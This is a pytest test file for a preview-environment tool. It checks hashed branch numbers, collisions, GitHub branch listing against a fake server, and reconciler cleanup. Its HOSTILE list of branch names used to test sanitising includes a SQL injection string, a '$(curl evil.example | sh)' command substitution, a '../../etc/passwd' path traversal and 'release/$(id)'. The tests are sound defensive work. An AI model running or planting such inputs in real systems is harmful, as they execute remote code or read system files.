"""Branch environments: numbers from hashed names, hostile names, collisions, and the GitHub branch source against the
fake GitHub; through the reconciler, a deleted or no-longer-matching branch is destroyed and a failed listing
destroys nothing.

Stand-ins: FakeGateway (stacks in memory, no pulumi run) and FakeSource (PRs in memory). Not end-to-end.
"""

from __future__ import annotations

import logging

import pytest

from prenv import naming
from prenv.errors import ConfigError, SourceUnavailable
from prenv.filters import FilterSettings, compile_filters
from prenv.gateway.fake import FakeGateway
from prenv.reconcile import Reconciler, ReconcileSettings
from prenv.settings import load
from prenv.sources import GitHubBranchSource
from prenv.sources.branches import branch_records
from prenv.sources.fake import FakeSource
from testsupport.github_server import FakeGitHub

HOSTILE = [
    "release/1.2",
    "'; DROP TABLE users; --",
    "$(curl evil.example | sh)",
    "../../etc/passwd",
    "Ünïcödé/ブランチ",
    "a" * 250,
    "UPPER/Case.With.Dots",
]


@pytest.mark.parametrize("branch", HOSTILE, ids=range(len(HOSTILE)))
def test_every_branch_name_gets_a_number_whose_names_fit_every_budget(branch: str) -> None:
    number = naming.branch_number(branch)

    assert naming.is_branch_number(number)
    assert number == naming.branch_number(branch)  # stable across calls and processes (sha256, not hash())
    assert naming.stack_name(number) == f"pr-{number}"
    assert naming.check_dns_label(naming.namespace(number, "preview-"), "ns")
    assert naming.database(number) == f"pr_{number}"
    assert len(naming.host("web", number, "preview.example.com")) <= naming.DNS_NAME_MAX


def test_branch_numbers_are_spread_and_never_in_the_range_of_real_pr_numbers() -> None:
    numbers = {naming.branch_number(f"release/{i}") for i in range(2000)}

    assert len(numbers) == 2000
    assert min(numbers) >= naming.BRANCH_NUMBER_BASE
    assert not naming.is_branch_number(123_456)


def test_branch_records_keep_hostile_names_as_text_only_and_skip_invalid_ones(caplog: pytest.LogCaptureFixture) -> None:
    pairs = [(name, "a" * 40) for name in HOSTILE] + [("bad\nname", "b" * 40), (None, "c" * 40), ("x", "not-a-sha")]

    with caplog.at_level(logging.WARNING):
        prs = branch_records(pairs, source="test")

    assert sorted(p.branch for p in prs) == sorted(HOSTILE)
    assert all(p.number == naming.branch_number(p.branch) for p in prs)
    assert not any("bad" in r.getMessage() and "name" in r.getMessage() for r in caplog.records)


def test_a_hash_collision_keeps_the_first_branch_by_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(naming, "branch_number", lambda name: naming.BRANCH_NUMBER_BASE + 1)

    prs = branch_records([("release/b", "b" * 40), ("release/a", "a" * 40)], source="test")

    assert [(p.branch, p.number) for p in prs] == [("release/a", naming.BRANCH_NUMBER_BASE + 1)]


def test_a_branch_source_without_an_include_pattern_is_refused_naming_the_key() -> None:
    env = {"PRENV_SOURCE__TYPE": "github-branches", "PRENV_SOURCE__GITHUB__REPOSITORY": "octo/shop"}

    with pytest.raises(ConfigError) as caught:
        load(environ=env)

    assert caught.value.key == "filters.branch_include"


def test_the_github_branch_source_lists_every_page_of_branches(fake_github: FakeGitHub) -> None:
    for i in range(5):
        fake_github.add_branch("octo/shop", f"release/{i}", f"{i:040x}")
    source = GitHubBranchSource(
        "octo/shop", token="t", base_url=fake_github.base_url, per_page=2, seconds_between_requests=None
    )

    prs = source.list_open()

    assert sorted(p.branch for p in prs) == [f"release/{i}" for i in range(5)]
    assert {p.branch: p.sha for p in prs}["release/3"] == f"{3:040x}"
    assert fake_github.calls("GET", "/repos/octo/shop/branches") == 3


def _reconciler(source: FakeSource, gateway: FakeGateway) -> Reconciler:
    return Reconciler(
        source=source,
        filters=compile_filters(FilterSettings(branch_include=r"^release/")),
        gateway=gateway,
        config_hash=lambda _pr: "cfg",
        settings=ReconcileSettings(parallelism=2),
    )


def test_matching_branches_get_environments_and_lose_them_when_deleted_or_no_longer_matching() -> None:
    branches = [("main", "a" * 40), ("release/1.2", "b" * 40), ("release/1.3", "c" * 40)]
    source = FakeSource(branch_records(branches, source="test"))
    gateway = FakeGateway()
    reconciler = _reconciler(source, gateway)

    reconciler.sync()
    assert {s.pr for s in gateway.list_stacks()} == {
        naming.branch_number("release/1.2"),
        naming.branch_number("release/1.3"),
    }

    source.set(branch_records([("main", "a" * 40), ("release/1.3", "c" * 40)], source="test"))
    reconciler.sync()
    assert {s.pr for s in gateway.list_stacks()} == {naming.branch_number("release/1.3")}


def test_github_branches_get_readable_stacks_that_end_with_the_digits_of_their_number(fake_github: FakeGitHub) -> None:
    for name in ("release/1.2", "Release/1.2", "release/$(id)", "main"):
        fake_github.add_branch("octo/shop", name, "a" * 40)
    source = GitHubBranchSource("octo/shop", token="t", base_url=fake_github.base_url, seconds_between_requests=None)
    gateway = FakeGateway()

    _reconciler(source, gateway).sync()  # type: ignore[arg-type]

    def digits(branch: str) -> str:
        return f"{naming.branch_number(branch) - naming.BRANCH_NUMBER_BASE:08d}"

    assert sorted(s.stack for s in gateway.list_stacks()) == sorted(
        [
            f"br-release-1-2-{digits('release/1.2')}",
            f"br-release-id-{digits('release/$(id)')}",
        ]
    )


def test_a_failed_branch_listing_destroys_nothing() -> None:
    source = FakeSource(branch_records([("release/1.2", "b" * 40)], source="test"))
    gateway = FakeGateway()
    reconciler = _reconciler(source, gateway)
    reconciler.sync()

    source.fail_next(SourceUnavailable("github octo/shop: server error (HTTP 503)"))
    result = reconciler.sync()

    assert not result.source_ok
    assert {s.pr for s in gateway.list_stacks()} == {naming.branch_number("release/1.2")}
